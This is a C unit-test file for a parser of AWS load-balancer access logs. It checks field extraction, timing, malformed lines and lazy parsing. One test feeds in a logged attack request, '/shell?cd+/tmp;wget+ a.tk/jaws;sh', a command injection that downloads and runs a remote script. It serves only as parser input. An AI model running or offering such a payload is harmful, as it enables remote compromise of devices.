/* The AWS ALB / classic ELB built-in format: parsers/src/alb.c */
#include "test_parser_helpers.h"

#define ARN "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc"
#define TAIL                                                                                       \
    " \"curl/7.46.0\" - - " ARN " \"Root=1-58337262-36d228ad5d99923122bbe354\" \"-\" \"-\" 0 "     \
    "2018-07-02T22:22:48.364000Z \"forward\" \"-\" \"-\""

static void test_alb_http_line_fills_fields(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_true(slt_format_has_latency(fmt));
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 "
                           "192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 34 366 "
                           "\"GET http://www.example.com:80/a/b?c=d HTTP/1.1\"" TAIL,
                           &rec),
                     SLT_UP_OK);
    assert_int_equal(rec.time, slt_time_from_civil(2018, 7, 2, 22, 23, 0));
    assert_int_equal(rec.time_frac_us, 186641);
    assert_int_equal(rec.status, 200);
    assert_int_equal(rec.latency_us, 171000);
    assert_int_equal(rec.upstream_us, 48000);
    field_is(&rec, SLT_F_TYPE, "http");
    field_is(&rec, SLT_F_LATENCY, "0.086 0.048 0.037");
    field_is(&rec, SLT_F_UPSTREAM_LATENCY, "0.048");
    field_is(&rec, SLT_F_TARGET_STATUS, "200");
    field_is(&rec, SLT_F_CLIENT, "192.168.131.39:2817");
    field_is(&rec, SLT_F_METHOD, "GET");
    field_is(&rec, SLT_F_PATH, "/a/b?c=d");
    field_is(&rec, SLT_F_PROTOCOL, "HTTP/1.1");
    field_is(&rec, SLT_F_HOST, "www.example.com");
    field_is(&rec, SLT_F_REQUEST, "GET http://www.example.com:80/a/b?c=d HTTP/1.1");
    field_is(&rec, SLT_F_USER_AGENT, "curl/7.46.0");
    field_is(&rec, SLT_F_BYTES, "366");
    field_is(&rec, SLT_F_ERROR_REASON, "-");
}

static void test_alb_minus_one_timing_gives_no_latency(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(parse("http 2019-10-11T15:01:12.376735Z app/x/c86a 77.227.156.41:56398 "
                           "10.0.0.192:80 -1 -1 -1 460 - 125 0 \"GET http://h:80/ HTTP/1.1\"" TAIL,
                           &rec),
                     SLT_UP_OK);
    assert_int_equal(rec.status, 460);
    assert_int_equal(rec.latency_us, -1);
    assert_int_equal(rec.upstream_us, -1);
    field_is(&rec, SLT_F_TARGET_STATUS, "-");
    /* only one of the three is -1: still no latency */
    assert_int_equal(parse("http 2019-10-11T15:01:12.376735Z app/x/c86a 77.227.156.41:56398 "
                           "10.0.0.192:80 0.001 -1 0.000 504 - 125 0 \"GET http://h:80/ "
                           "HTTP/1.1\"" TAIL,
                           &rec),
                     SLT_UP_OK);
    assert_int_equal(rec.latency_us, -1);
}

static void test_alb_domain_name_wins_over_url_host(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(parse("https 2018-07-02T22:23:00.186641Z app/my-lb/50dc 192.168.131.39:2817 "
                           "10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 \"GET "
                           "https://10.1.1.1:443/ HTTP/1.1\" \"curl/7.46.0\" ECDHE-RSA-AES128-GCM "
                           "TLSv1.2 " ARN
                           " \"Root=1-5\" \"www.example.com\" \"arn:aws:acm:cert\" 1 "
                           "2018-07-02T22:22:48.364000Z \"authenticate,forward\" \"-\" \"-\"",
                           &rec),
                     SLT_UP_OK);
    field_is(&rec, SLT_F_HOST, "www.example.com");
    field_is(&rec, SLT_F_TYPE, "https");
}

static void test_alb_request_types_are_accepted(void **state)
{
    static const char *const types[] = {"http", "https", "h2", "grpcs", "ws", "wss"};
    char line[1024];
    struct slt_record rec;
    size_t i;

    (void)state;
    use("alb");
    for (i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
        snprintf(line, sizeof(line),
                 "%s 2018-07-02T22:23:00.186641Z app/lb/1 10.0.0.140:40914 10.0.1.192:8010 0.001 "
                 "0.003 0.000 101 101 218 587 \"GET http://10.0.0.30:80/ HTTP/1.1\"" TAIL,
                 types[i]);
        assert_int_equal(parse(line, &rec), SLT_UP_OK);
        field_is(&rec, SLT_F_TYPE, types[i]);
        assert_int_equal(rec.latency_us, 4000);
    }
}

static void test_alb_tls_and_other_types_are_not_access(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(
        parse("tls 2.0 2018-12-20T02:59:40 net/my-nlb/c6e7 g3d4 192.168.131.39:2817 "
              "10.0.0.1:80 5 2 98 246 - arn - ECDHE-RSA-AES128-SHA tlsv12 - host - - - "
              "2018-12-20T02:59:30",
              &rec),
        SLT_UP_NOT_ACCESS);
    assert_int_equal(parse("udp 1 2 3", &rec), SLT_UP_NOT_ACCESS);
    assert_int_equal(parse("GET/ 1 2 3", &rec), SLT_UP_SYNTAX);
    assert_int_equal(parse("justoneword", &rec), SLT_UP_SYNTAX);
}

static void test_alb_connection_log_is_not_access(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(parse("2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 "
                           "ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=amazondomains.com\" "
                           "NotBefore=2023-09-21T22:43:21Z FEF257372D5C14D4 Success",
                           &rec),
                     SLT_UP_NOT_ACCESS);
    assert_int_equal(parse("2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - \"-\" - - - "
                           "TID_16132ed0b4112148",
                           &rec),
                     SLT_UP_NOT_ACCESS);
}

static void test_alb_classic_elb_layout_is_accepted(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(parse("2019-10-14T12:01:41.918996Z filebeat-aws-elb-test 81.2.69.143:54001 "
                           "10.0.0.169:80 0.000041 0.00491 0.000027 200 200 0 612 \"GET "
                           "http://18.194.223.56:80/ HTTP/1.1\" \"Mozilla/5.0\" - -",
                           &rec),
                     SLT_UP_OK);
    assert_int_equal(rec.latency_us, 41 + 4910 + 27);
    assert_int_equal(rec.upstream_us, 4910);
    field_is(&rec, SLT_F_TYPE, NULL);
    field_is(&rec, SLT_F_HOST, "18.194.223.56");
    field_is(&rec, SLT_F_PATH, "/");
    field_is(&rec, SLT_F_USER_AGENT, "Mozilla/5.0");
    field_is(&rec, SLT_F_TARGET_STATUS, "200");
    field_is(&rec, SLT_F_ERROR_REASON, NULL);
}

static void test_alb_extra_trailing_fields_are_tolerated(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/lb/1 192.168.131.39:2817 "
                           "10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 \"GET "
                           "http://www.example.com:80/ HTTP/1.1\"" TAIL
                           " \"10.0.0.1:80\" \"200\" \"-\" \"-\" TID_1234 newfield \"x y\"",
                           &rec),
                     SLT_UP_OK);
    field_is(&rec, SLT_F_ERROR_REASON, "-");
    assert_int_equal(rec.status, 200);
}

static void test_alb_quote_glued_to_next_field_is_tolerated(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    /* the AWS docs' wss example: "-" "-"1 (no space before matched_rule_priority) */
    assert_int_equal(parse("wss 2018-07-02T22:23:00.186641Z app/lb/1 10.0.0.140:44244 "
                           "10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 \"GET "
                           "https://10.0.0.30:443/ HTTP/1.1\" \"-\" ECDHE TLSv1.2 " ARN
                           " \"Root=1-5\" \"-\" \"-\"1 2018-07-02T22:22:48.364000Z \"forward\" "
                           "\"-\" \"LambdaInvalidResponse\"",
                           &rec),
                     SLT_UP_OK);
    field_is(&rec, SLT_F_ERROR_REASON, "LambdaInvalidResponse");
}

static void test_alb_space_in_uri_stays_in_path(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(
        parse("http 2022-05-12T06:41:29.051646Z app/a/3011 67.43.156.20:41542 - -1 -1 "
              "-1 301 - 233 390 \"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ "
              "a.tk/jaws;sh HTTP/1.1\" \"Hello, world\" - - - \"Root=1-6\" \"-\" \"-\" "
              "0 2022-05-12T06:41:29.051000Z \"redirect\" \"https://x/\" \"-\" \"-\" "
              "\"-\" \"Acceptable\" \"SpaceInUri\"",
              &rec),
        SLT_UP_OK);
    field_is(&rec, SLT_F_PATH, "/shell?cd+/tmp;wget+ a.tk/jaws;sh");
    field_is(&rec, SLT_F_HOST, "127.0.0.1");
    field_is(&rec, SLT_F_PROTOCOL, "HTTP/1.1");
}

static void test_alb_malformed_requests_still_parse(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(
        parse("http 2018-11-30T22:23:00.186641Z app/lb/5 192.168.131.39:2817 - -1 -1 -1 "
              "400 - 0 0 \"- - -\" \"-\" - - - \"-\" \"-\" \"-\" 0 "
              "2018-11-30T22:22:48.364000Z \"-\" \"-\" \"-\"",
              &rec),
        SLT_UP_OK);
    assert_int_equal(rec.status, 400);
    field_is(&rec, SLT_F_METHOD, "-");
    field_is(&rec, SLT_F_HOST, NULL);
    assert_int_equal(
        parse("http 2018-11-30T22:23:00.186641Z app/lb/5 192.168.131.39:2817 - -1 -1 -1 "
              "400 - 0 0 \"- http://www.example.com:80- -\" \"-\" - - - \"-\" \"-\" "
              "\"-\" 0 2018-11-30T22:22:48.364000Z \"-\" \"-\" \"-\"",
              &rec),
        SLT_UP_OK);
    field_is(&rec, SLT_F_PATH, NULL);
    field_is(&rec, SLT_F_HOST, "www.example.com");
}

static void test_alb_ipv6_authority_keeps_brackets(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(
        parse("h2 2018-07-02T22:23:00.186641Z app/lb/1 [2001:db8::1]:2817 - 0.000 0.002 "
              "0.000 200 200 5 257 \"GET https://[2001:db8::5]:443/x HTTP/2.0\"" TAIL,
              &rec),
        SLT_UP_OK);
    field_is(&rec, SLT_F_HOST, "[2001:db8::5]");
    field_is(&rec, SLT_F_PATH, "/x");
    field_is(&rec, SLT_F_PROTOCOL, "HTTP/2.0");
}

static void test_alb_damaged_fields_give_reasons(void **state)
{
    struct slt_record rec;

    (void)state;
    use("alb");
    assert_int_equal(
        parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000 0.001 0.000 "
              "200 200 34 366",
              &rec),
        SLT_UP_SYNTAX);
    assert_int_equal(
        parse("http 2018-07-02T99:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000 0.001 0.000 "
              "200 200 34 366 \"GET http://h/ HTTP/1.1\"",
              &rec),
        SLT_UP_TIME);
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000 fast 0.000 "
                           "200 200 34 366 \"GET http://h/ HTTP/1.1\"",
                           &rec),
                     SLT_UP_LATENCY);
    assert_int_equal(
        parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000 0.001 0.000 "
              "- 200 34 366 \"GET http://h/ HTTP/1.1\"",
              &rec),
        SLT_UP_STATUS);
    assert_int_equal(
        parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000 0.001 0.000 "
              "200 200 34 366 \"GET http://h/ HTTP/1.1",
              &rec),
        SLT_UP_SYNTAX);
}

/* The fields after the request are read on first use (issue 10: the parser's speed). */
static void test_alb_fields_after_the_request_are_read_on_first_use(void **state)
{
    struct slt_record rec;
    struct slt_str s;

    (void)state;
    use("alb");
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 "
                           "192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 34 366 "
                           "\"GET http://www.example.com:80/a/b?c=d HTTP/1.1\"" TAIL,
                           &rec),
                     SLT_UP_OK);
    assert_true(rec.lazy != 0);
    assert_null(rec.field[SLT_F_PATH].p); /* not read yet */
    s = slt_record_get(&rec, SLT_F_PATH);
    assert_int_equal(s.len, 8);
    assert_memory_equal(s.p, "/a/b?c=d", 8);
    field_is(&rec, SLT_F_USER_AGENT, "curl/7.46.0");
    field_is(&rec, SLT_F_HOST, "www.example.com");
    field_is(&rec, SLT_F_ERROR_REASON, "-");
    /* a line cut inside the user agent still counts by its head; the cut field is absent */
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000 0.001 "
                           "0.000 503 - 34 366 \"GET http://h/x HTTP/1.1\" \"curl/7.4",
                           &rec),
                     SLT_UP_OK);
    assert_int_equal(rec.status, 503);
    field_is(&rec, SLT_F_USER_AGENT, NULL);
    field_is(&rec, SLT_F_PATH, "/x");
    field_is(&rec, SLT_F_HOST, "h");
    /* ALB's "d.dddddd" timings read 8 bytes at once, other spellings as before */
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.000001 "
                           "9.999999 12.5 200 200 34 366 \"GET http://h/x HTTP/1.1\"",
                           &rec),
                     SLT_UP_OK);
    assert_int_equal(rec.latency_us, 1 + 9999999 + 12500000);
    assert_int_equal(rec.upstream_us, 9999999);
    assert_int_equal(parse("http 2018-07-02T22:23:00.186641Z app/lb/1 1.2.3.4:1 - 0.00000x "
                           "0.000001 0.000001 200 200 34 366 \"GET http://h/x HTTP/1.1\"",
                           &rec),
                     SLT_UP_LATENCY);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown(test_alb_http_line_fills_fields, teardown),
        cmocka_unit_test_teardown(test_alb_fields_after_the_request_are_read_on_first_use,
                                  teardown),
        cmocka_unit_test_teardown(test_alb_minus_one_timing_gives_no_latency, teardown),
        cmocka_unit_test_teardown(test_alb_domain_name_wins_over_url_host, teardown),
        cmocka_unit_test_teardown(test_alb_request_types_are_accepted, teardown),
        cmocka_unit_test_teardown(test_alb_tls_and_other_types_are_not_access, teardown),
        cmocka_unit_test_teardown(test_alb_connection_log_is_not_access, teardown),
        cmocka_unit_test_teardown(test_alb_classic_elb_layout_is_accepted, teardown),
        cmocka_unit_test_teardown(test_alb_extra_trailing_fields_are_tolerated, teardown),
        cmocka_unit_test_teardown(test_alb_quote_glued_to_next_field_is_tolerated, teardown),
        cmocka_unit_test_teardown(test_alb_space_in_uri_stays_in_path, teardown),
        cmocka_unit_test_teardown(test_alb_malformed_requests_still_parse, teardown),
        cmocka_unit_test_teardown(test_alb_ipv6_authority_keeps_brackets, teardown),
        cmocka_unit_test_teardown(test_alb_damaged_fields_give_reasons, teardown),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
